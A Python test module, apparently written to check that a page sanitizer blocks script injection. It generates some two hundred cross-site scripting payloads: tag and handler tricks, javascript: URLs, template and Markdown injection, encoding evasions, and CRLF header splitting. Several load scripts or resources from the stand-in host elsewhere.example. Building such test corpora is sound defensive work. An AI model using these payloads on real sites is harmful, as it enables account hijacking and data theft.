"""Attacks on a page, made from families: each calls `ran(N)`, with its own number, if it is let run.

The words are our own; the families are those that every list of such attacks has.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import count
from typing import Final

ELSEWHERE: Final = "https://elsewhere.example"
"""Where no page may ask for anything."""
NAMES: Final = (
    "img",
    "video",
    "audio",
    "body",
    "input",
    "details",
    "marquee",
    "select",
    "textarea",
    "iframe",
    "object",
    "a",
)
EVENTS: Final = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerover", "onanimationstart")


def scripts(ran: str) -> Iterator[str]:
    """Script tags, whole, broken, nested and in odd spelling."""
    yield f"<script>{ran}</script>"
    yield f"<ScRiPt >{ran}</sCrIpT\t\n>"
    yield f"<script/x>{ran}</script>"
    yield f"<scr<script>ipt>{ran}</scr</script>ipt>"
    yield f"</script><script>{ran}</script>"
    yield f"</title><script>{ran}</script>"
    yield f"</textarea><script>{ran}</script>"
    yield f"</template><script>{ran}</script>"
    yield f"<script type=module>{ran}</script>"
    yield f"<script src=data:text/javascript,{ran}></script>"
    yield f"<script src={ELSEWHERE}/a.js></script>"
    yield f"<script nonce>{ran}</script>"
    yield f"<script\x0c>{ran}</script>"
    yield f"<<script>{ran}//<</script>"
    yield f"<script>{ran}"


def handlers(ran: str) -> Iterator[str]:
    """Handlers of events on all sorts of elements."""
    for place, name in enumerate(NAMES):
        for event in EVENTS[place % 3 :: 3]:
            yield f"<{name} src=x tabindex=1 autofocus open {event}={ran}>"
        yield f'<{name} src="x" {EVENTS[place % len(EVENTS)]}="{ran}" style="animation:x 1s">'
    yield f"<img src=x:x onerror\x0b=\x0c{ran}>"
    yield f"<img/src='x'/onerror='{ran}'"
    yield f"<img src=x onerror=&#{ord(ran[0])};{ran[1:]}>"
    yield f"<IMG SRC=x ONERROR={ran}>"
    yield f"<x onclick={ran} style=position:fixed;inset:0>here</x>"


def pictures(ran: str) -> Iterator[str]:
    """SVG and MathML, which have rules of their own."""
    yield f"<svg onload={ran}>"
    yield f"<svg/onload={ran}//"
    yield f"<svg><script>{ran}</script></svg>"
    yield f"<svg><script href=data:text/javascript,{ran} /></svg>"
    yield f"<svg><animate onbegin={ran} attributeName=x dur=1s></svg>"
    yield f"<svg><set onbegin={ran} attributename=x></svg>"
    yield f"<svg><a xlink:href=javascript:{ran}><text y=20>here</text></a></svg>"
    yield f"<svg><foreignObject><img src=x onerror={ran}></foreignObject></svg>"
    yield f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{ran}'/>#x\"/></svg>"
    yield f"<math><mi xlink:href=javascript:{ran}>here</mi></math>"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={ran}></style></mglyph></table></mtext></math>"
    yield f'<svg></p><style><a id="</style><img src=x onerror={ran}>">'
    yield f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={ran} src>'>"


def addresses(ran: str) -> Iterator[str]:
    """Addresses that are code, plain and hidden."""
    hidden = (
        f"javascript:{ran}",
        f"JaVaScRiPt:{ran}",
        f"java\tscript:{ran}",
        f"java\nscript:{ran}",
        f" \x01javascript:{ran}",
        f"&#106;avascript:{ran}",
        f"javascript&colon;{ran}",
        f"javascript://x/%0a{ran}",
        f"javascript:void({ran})//https://example.org",
        f"vbscript:{ran}",
        f"data:text/html,<script>{ran}</script>",
        f'https://example.org/"onmouseover="{ran}',
        f"https://example.org/'><img src=x onerror={ran}>",
        f"//elsewhere.example/\\{ran}",
    )
    yield from hidden
    for address in hidden[:8]:
        yield f'<a href="{address}">here</a>'
        yield f'<iframe src="{address}"></iframe>'
    yield f"<form action=javascript:{ran}><button>here</button></form>"
    yield f"<button formaction=javascript:{ran} form=x>here</button>"
    yield f"<object data=javascript:{ran}></object>"
    yield f"<embed src=javascript:{ran}>"


def templates(ran: str) -> Iterator[str]:
    """What templates of pages make code of: Vue, Jinja and strings of JavaScript."""
    yield f"{{{{{ran}}}}}"
    yield f"{{{{constructor.constructor('{ran}')()}}}}"
    yield f"{{{{$el.ownerDocument.defaultView.{ran}}}}}"
    yield f"{{{{_c.constructor('{ran}')()}}}}"
    yield f"{{%raw%}}{{{{{ran}}}}}{{%endraw%}}"
    yield f"${{{ran}}}"
    yield f"`+{ran}+`"
    yield f"`);{ran};//"
    yield f"\\`;{ran}//"
    yield f"<%= {ran} %>"
    yield f"#{{{ran}}}"
    yield f"[[{ran}]]"
    yield f"<div v-html=\"'<img src=x onerror={ran}>'\"></div>"
    yield f'<div :title="{ran}">x</div>'
    yield f'<div v-bind:[{ran}]="1" @vue:mounted="{ran}">x</div>'
    yield f'<div v-if="{ran}" v-on:click="{ran}">x</div>'
    yield f"<component :is=\"'script'\">{ran}</component>"
    yield f'<template v-for="x in {ran}">x</template>'
    yield f"<nicegui-html :innerHTML=\"'<img src=x onerror={ran}>'\"></nicegui-html>"
    yield f"<slot-{{{{{ran}}}}} v-slot>x</slot>"


def markdown(ran: str) -> Iterator[str]:
    """What Markdown makes links and pictures of."""
    yield f"[here](javascript:{ran})"
    yield f"[here](<javascript:{ran}>)"
    yield f'![x](x"onerror="{ran})'
    yield f'![x](x "x" onerror={ran})'
    yield f"<javascript:{ran}>"
    yield f"[x]: javascript:{ran}\n[x]"
    yield f"```\n</code></pre><img src=x onerror={ran}>\n```"
    yield f"`</code><svg onload={ran}>`"
    yield f"| a |\n|---|\n| <img src=x onerror={ran}> |"
    yield f"# <img src=x onerror={ran}>"
    yield f"![x]({ELSEWHERE}/pixel.png)"
    yield f"[x](data:text/html;base64,PHNjcmlwdD4=)<script>{ran}</script>"


def letters(ran: str) -> Iterator[str]:
    """Letters that look like others, vanish, or end something."""
    yield f"\uff1cscript\uff1e{ran}\uff1c/script\uff1e"
    yield f"\\u003cscript\\u003e{ran}\\u003c/script\\u003e"
    yield f"%3Cscript%3E{ran}%3C/script%3E"
    yield f"&lt;script&gt;{ran}&lt;/script&gt;"
    yield f"&amp;lt;img src=x onerror={ran}&amp;gt;"
    yield f"&#x3c;img src=x onerror={ran}&#x3e;"
    yield f"<\u200bscript>{ran}</script>"
    yield f"<s\u00adcript>{ran}</script>"
    yield f"<img\u2028src=x\u2029onerror={ran}>"
    yield f"\ufeff<script>{ran}</script>"
    yield f"\u202e<script>{ran}</script>\u202c"
    yield f"<\u017fcript>{ran}</\u017fcript>"
    yield f"<\u212amg src=x onerror={ran}>"
    yield f"+ADw-script+AD4-{ran}+ADw-/script+AD4-"
    yield f"\u00bcscript\u00be{ran}\u00bc/script\u00be"
    yield f"\u2028{ran}\u2029"
    yield f"\U0001f600<img src=x onerror={ran}>\U0001f600"


def styles(ran: str) -> Iterator[str]:
    """Style sheets that load, and the ways out of them."""
    yield f"</style><script>{ran}</script>"
    yield f"<style>@import '{ELSEWHERE}/a.css';</style>"
    yield f"<style>*{{background:url({ELSEWHERE}/a.png)}}</style>"
    yield f"<link rel=stylesheet href={ELSEWHERE}/a.css>"
    yield f"<link rel=stylesheet href=data:text/css,*{{}} onload={ran}>"
    yield f"<div style=\"background:url('javascript:{ran}')\">x</div>"
    yield f'<div style="width:expression({ran})">x</div>'
    yield f"<div style='background-image:url({ELSEWHERE}/b.png)'>x</div>"
    yield f"red;}}</style><img src=x onerror={ran}>"
    yield f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={ran}>x</b>"


def comments(ran: str) -> Iterator[str]:
    """Comments, CDATA and other stretches that a parser may end elsewhere."""
    yield f"--><script>{ran}</script><!--"
    yield f"--!><img src=x onerror={ran}>"
    yield f"<!--><img src=x onerror={ran}>-->"
    yield f"<!--[if gte IE 4]><script>{ran}</script><![endif]-->"
    yield f"<![CDATA[<script>{ran}</script>]]>"
    yield f"]]><script>{ran}</script>"
    yield f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{ran}</script>"
    yield f"<!DOCTYPE x [<!ENTITY y '<script>{ran}</script>'>]>&y;"
    yield f'<noscript><p title="</noscript><img src=x onerror={ran}>">'
    yield f'<xmp><p title="</xmp><svg/onload={ran}>">'
    yield f"<listing>&lt;img src=x onerror={ran}&gt;</listing>"
    yield f"<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\\u0061{ran}</script>"


def breaks(ran: str) -> Iterator[str]:
    """Ways out of attributes, strings, JSON and headers."""
    for mark in ('"', "'", "`"):
        yield f"{mark}><img src=x onerror={ran}>"
        yield f"{mark} onpointerover={ran} autofocus onfocus={ran} x={mark}"
        yield f"{mark};{ran};//"
        yield f"{mark}-{ran}-{mark}"
        yield f"{mark});{ran}//"
        yield f"\\{mark};{ran}//"
    yield f'{{"x": "</script><script>{ran}</script>"}}'
    yield f'"}}]);{ran};//'
    yield f"*/{ran}/*"
    yield f"\n{ran}\n"
    yield f"\r\nContent-Type: text/html\r\n\r\n<script>{ran}</script>"
    yield f"%0d%0aSet-Cookie: x=1%0d%0a%0d%0a<script>{ran}</script>"
    yield f'__proto__"{ran}constructor'


def frames(ran: str) -> Iterator[str]:
    """Elements that bring another page, or another base, along."""
    yield f'<iframe srcdoc="<script>parent.{ran}</script>"></iframe>'
    yield f"<iframe src={ELSEWHERE}/></iframe>"
    yield f"<base href={ELSEWHERE}/>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{ran}'>"
    yield f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>"
    yield f"<object data={ELSEWHERE}/a.swf></object>"
    yield f"<embed src={ELSEWHERE}/a.svg>"
    yield f"<portal src={ELSEWHERE}/></portal>"
    yield f"<video poster={ELSEWHERE}/p.png onloadstart={ran}><source onerror={ran}></video>"
    yield f"<img srcset='{ELSEWHERE}/s.png 1x'>"
    yield f"<form id=app><input name=innerHTML><img src=x onerror={ran}></form>"
    yield f"<a id=Vue><a id=Vue name=createApp href=javascript:{ran}>here</a>"
    yield f"<template shadowrootmode=open><img src=x onerror={ran}></template>"
    yield f"<link rel=modulepreload href={ELSEWHERE}/m.js><link rel=prefetch href={ELSEWHERE}/p>"
    yield f"<dialog open onclose={ran}><form method=dialog><button autofocus>here</button></form></dialog>"


FAMILIES: Final[tuple[Callable[[str], Iterator[str]], ...]] = (
    scripts,
    handlers,
    pictures,
    addresses,
    templates,
    markdown,
    letters,
    styles,
    comments,
    breaks,
    frames,
)


def numbered() -> dict[str, list[str]]:
    """Every attack by its family, each with a number of its own in what it calls, to tell which one ran."""
    numbers = count(1)
    return {
        family.__name__: [attack.replace("an(0)", f"an({next(numbers)})") for attack in family("ran(0)")]
        for family in FAMILIES
    }
